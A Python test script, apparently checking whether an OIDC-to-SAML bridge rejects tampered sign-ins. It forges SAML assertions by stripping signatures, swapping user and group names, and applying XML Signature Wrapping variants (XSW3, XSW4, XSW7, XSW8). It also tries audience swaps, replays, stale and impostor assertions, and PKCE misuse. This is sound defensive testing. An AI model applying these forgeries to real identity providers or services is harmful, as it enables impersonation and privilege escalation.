# A person's browser and the command line tool that opened it: the code flow with PKCE against the bridge, signed in at the
# SAML provider with HTTP Basic. On the way it can do to the assertion what somebody who holds the browser can.
#   browser.py USER PASSWORD CLIENT HOW IDP_CERT
# CLIENT: for which application of the bridge the token shall be.
# Prints one JSON object: {"token": ...}, or {"refused": STATUS, "by": ..., "says": ...}; and "signature_holds", what xmlsec1 says
# of a document that was changed, when asked about nothing but the signature in it.
import base64
import hashlib
import html
import json
import re
import secrets
import subprocess
import sys
import tempfile
import urllib.parse
import zlib

import requests

ISSUER = "https://203.0.113.10:8443"
REDIRECT = "http://127.0.0.1:8400/"
PATIENCE = 20
user, password, client, how, idp_cert = sys.argv[1:6]
facts = {}


def done(**answer):
    print(json.dumps({**facts, **answer}))
    sys.exit()


def refused(by, answer):
    done(refused=answer.status_code, by=by, says=answer.text[:2000])


class SignIn:
    """One sign-in, from the first question to the provider's form."""

    def __init__(self):
        self.http = requests.Session()
        self.endpoints = self.get(ISSUER + "/.well-known/openid-configuration").json()
        self.verifier, self.state = secrets.token_urlsafe(48), secrets.token_urlsafe(16)
        challenge = base64.urlsafe_b64encode(hashlib.sha256(self.verifier.encode()).digest()).rstrip(b"=")
        question = {"client_id": client, "redirect_uri": REDIRECT, "response_type": "code", "scope": "openid"}
        question |= {"state": self.state, "nonce": secrets.token_urlsafe(16)}
        question |= {"code_challenge": challenge.decode(), "code_challenge_method": "S256"}
        asked = self.get(self.endpoints["authorization_endpoint"], params=question)
        assert asked.is_redirect, (asked.status_code, asked.text)
        self.provider = asked.headers["location"]

    def get(self, url, **more):
        return self.http.get(url, allow_redirects=False, timeout=PATIENCE, **more)

    def form(self):
        """Signs in at the provider: the address and the fields of the form that it answers with."""
        page = self.get(self.provider, auth=(user, password))
        if page.status_code != 200:
            refused("provider", page)
        inputs = re.findall(r'<input type="hidden"\s+name="(\w+)"\s+value="([^"]*)"', page.text)
        (action,) = re.findall(r'action="([^"]*)"', page.text)
        return html.unescape(action), {name: html.unescape(value) for name, value in inputs}

    def code(self, action, fields):
        """Takes the form to the bridge: a code."""
        answer = self.http.post(action, data=fields, allow_redirects=False, timeout=PATIENCE)
        location = answer.headers.get("location", "")
        back = urllib.parse.parse_qs(urllib.parse.urlsplit(location).query)
        if not location.startswith(REDIRECT) or "code" not in back:
            refused("bridge", answer)
        assert back["state"] == [self.state]
        return back["code"][0]

    def token(self, code, verifier):
        fields = {"grant_type": "authorization_code", "code": code, "redirect_uri": REDIRECT, "client_id": client}
        if verifier:
            fields["code_verifier"] = verifier
        answer = self.http.post(self.endpoints["token_endpoint"], data=fields, timeout=PATIENCE)
        if answer.status_code != 200:
            refused("bridge, for a code", answer)
        done(token=answer.json()["id_token"])


ASSERTION = re.compile(r"<saml:Assertion .*</saml:Assertion>", re.S)
SIGNATURE = re.compile(r"<Signature .*</Signature>", re.S)


def forge(assertion):
    """What the attacker would have the bridge believe, unsigned."""
    forged = SIGNATURE.sub("", assertion).replace(">bob<", ">ada<").replace(">sales<", ">ml-team<")
    assert forged.count(">ada<") == 2 and forged.count(">ml-team<") == 1
    return re.sub(r' ID="[^"]*"', f' ID="_{secrets.token_hex(16)}"', forged, count=1)


# Of the signed assertion, what stands in its place. The names of wrappings are those of Somorovsky et al., "On Breaking SAML".
CHANGES = {
    "honest": lambda good: good,
    "edited": lambda good: good.replace(">sales<", ">ml-team<"),
    "unsigned": lambda good: SIGNATURE.sub("", good).replace(">sales<", ">ml-team<"),
    "wrapped-before": lambda good: forge(good) + good,  # XSW3
    "wrapped-after": lambda good: good + forge(good),
    "wrapped-around": lambda good: forge(good).replace("</saml:Assertion>", good + "</saml:Assertion>"),  # XSW4
    "wrapped-extension": lambda good: f"<samlp:Extensions>{good}</samlp:Extensions>{forge(good)}",  # XSW7
    "wrapped-object": lambda good: forge(good).replace("<saml:Subject>", f"{with_object(good)}<saml:Subject>"),  # XSW8
}


def with_object(good):
    """The signature, with the assertion that it signs inside."""
    signature = SIGNATURE.search(good)[0]
    return signature.replace("</Signature>", f"<Object>{SIGNATURE.sub('', good)}</Object></Signature>")


def signature_holds(document):
    with tempfile.NamedTemporaryFile(suffix=".xml") as file:
        file.write(document.encode())
        file.flush()
        ids = ["--id-attr:ID", "urn:oasis:names:tc:SAML:2.0:assertion:Assertion"]
        command = ["xmlsec1", "--verify", "--pubkey-cert-pem", idp_cert, *ids, file.name]
        return subprocess.run(command, capture_output=True, timeout=PATIENCE).returncode == 0


def changed(fields):
    document = base64.b64decode(fields["SAMLResponse"]).decode()
    (good,) = ASSERTION.findall(document)
    document = document.replace(good, CHANGES[how](good))
    facts["signature_holds"] = signature_holds(document)
    return {**fields, "SAMLResponse": base64.b64encode(document.encode()).decode()}


def to_another_service(url):
    """The bridge's question, as if another service had asked it: the assertion is for that one then."""
    parts = urllib.parse.urlsplit(url)
    query = dict(urllib.parse.parse_qsl(parts.query))
    question = zlib.decompress(base64.b64decode(query["SAMLRequest"]), -15).decode()
    assert question.count(f">{ISSUER}/saml/metadata<") == 1
    question = question.replace(f">{ISSUER}/saml/metadata<", ">https://other.example.test/saml<")
    packed = zlib.compressobj(wbits=-15)
    query["SAMLRequest"] = base64.b64encode(packed.compress(question.encode()) + packed.flush()).decode()
    return parts._replace(query=urllib.parse.urlencode(query)).geturl()


sign_in = SignIn()
if how in CHANGES:
    action, fields = sign_in.form()
    sign_in.token(sign_in.code(action, changed(fields)), sign_in.verifier)
elif how == "other-audience":
    sign_in.provider = to_another_service(sign_in.provider)
    sign_in.token(sign_in.code(*sign_in.form()), sign_in.verifier)
elif how in ("stale", "impostor"):
    sign_in.provider = sign_in.provider.replace("/sso?", f"/{how}?")
    sign_in.token(sign_in.code(*sign_in.form()), sign_in.verifier)
elif how == "replayed":
    action, used = sign_in.form()
    sign_in.code(action, used)
    again = SignIn()
    _, fresh = again.form()
    again.token(again.code(action, {**fresh, "SAMLResponse": used["SAMLResponse"]}), again.verifier)
elif how == "unasked":
    action, fields = sign_in.form()
    SignIn().code(action, fields)
elif how in ("code-alone", "code-other-verifier"):
    sign_in.token(sign_in.code(*sign_in.form()), secrets.token_urlsafe(48) if "other" in how else None)
else:
    raise SystemExit(f"{how}: no such way")
